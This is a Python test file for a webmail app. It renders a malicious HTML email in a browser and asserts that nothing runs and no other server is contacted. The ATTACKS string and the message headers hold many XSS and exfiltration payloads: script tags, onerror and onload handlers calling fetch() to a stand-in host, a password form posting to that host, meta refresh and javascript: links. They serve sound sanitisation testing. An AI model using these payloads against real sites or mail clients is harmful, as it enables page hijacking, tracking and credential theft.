"""An email that means harm, in the inbox, as a browser shows it: it is shown, and does nothing."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.processes import running, web

MESSAGE = "1700000000.M1P7Q1.host"
# {at}: another server, which must hear of nothing.
ATTACKS = """
<p id="shown">All of this is shown.</p>
<script>top.document.title = "owned"; fetch("{at}/fetched")</script>
<script src="{at}/script.js"></script>
<img src="{at}/image.png" srcset="{at}/larger.png 2x" onerror="fetch('{at}/onerror')">
<img src="x" onerror="parent.document.title='owned'">
<svg onload="fetch('{at}/svg')"><image href="{at}/svg.png"/><use href="{at}/use.svg#x"/></svg>
<meta http-equiv="refresh" content="0; url={at}/refreshed">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<base href="{at}/based/">
<link rel="stylesheet" href="{at}/style.css"><link rel="prefetch" href="{at}/prefetched">
<link rel="dns-prefetch" href="{at}"><link rel="preconnect" href="{at}">
<style>@import "{at}/imported.css"; body {{ background: url({at}/styled.png) }}
@font-face {{ font-family: f; src: url({at}/font.woff) }} p {{ font-family: f }}</style>
<p style="background: url({at}/inline.png)">x</p>
<iframe src="{at}/framed"></iframe><iframe srcdoc="<img src={at}/nested.png>"></iframe>
<object data="{at}/object"></object><embed src="{at}/embedded">
<video src="{at}/video" poster="{at}/poster.png" autoplay></video>
<audio src="{at}/a" autoplay></audio>
<form id="form" action="{at}/form" method="post"><input name="password">
<button id="submit">Go on</button></form>
<form action="/longtask" method="post"><button id="start">Start</button></form>
<a id="top" href="{at}/top" target="_top">Top</a> <a id="self" href="{at}/self">Self</a>
<a id="blank" href="{at}/blank" target="_blank">Blank</a>
<a id="javascript" href="javascript:top.document.title='owned'">Script</a>
</textarea></iframe>"><script>document.title = "owned"</script>
"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another server of this machine, and what it is asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,))
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def letter(
    browser: Browser, elsewhere: tuple[str, list[str]], redis_url: str, tmp_path: Path
) -> Iterator[tuple[Page, str]]:
    """A page of a browser's, and the address of the email."""
    folder = tmp_path / "data"
    (folder / "inbox" / "new").mkdir(parents=True)
    at, _ = elsewhere
    head = "Subject: <script>document.title='owned'</script>\nFrom: <img src=x onerror=alert(1)>\n"
    kind = "Content-Type: text/html; charset=utf-8\n\n"
    (folder / "inbox" / "new" / MESSAGE).write_text(head + kind + ATTACKS.format(at=at))
    env = {"REDIS_URL": redis_url, "DATA_DIR": str(folder), "SECRET_KEY": "a secret for the tests"}
    process, address = web(tmp_path, env)
    with running(process):
        context = browser.new_context()
        page = context.new_page()
        page.on("dialog", lambda dialog: pytest.fail(dialog.message))
        yield page, f"{address}/inbox/{MESSAGE}"
        context.close()


def test_an_email_in_html_is_shown_and_does_nothing(
    letter: tuple[Page, str], elsewhere: tuple[str, list[str]]
):
    page, address = letter
    answered: list[str] = []
    page.context.on(
        "response", lambda answer: answered.append(f"{answer.request.method} {answer.url}")
    )

    page.goto(address, wait_until="domcontentloaded")
    frame = page.frame_locator("iframe.letter")
    expect(frame.locator("#shown")).to_be_visible()
    for each in ("submit", "start", "top", "blank", "javascript", "self"):
        frame.locator(f"#{each}").click(no_wait_after=True)
    # What all of these would ask for, is asked for before this is answered.
    page.evaluate("fetch('/healthz').then((answer) => answer.text())")

    expect(page).to_have_title(re.compile("^<script>document.title='owned'</script>"))  # a text
    assert page.url == address
    assert len(page.context.pages) == 1
    assert elsewhere[1] == []
    own = address.partition("/inbox")[0]
    assert [each for each in answered if not each.startswith(f"GET {own}/")] == []
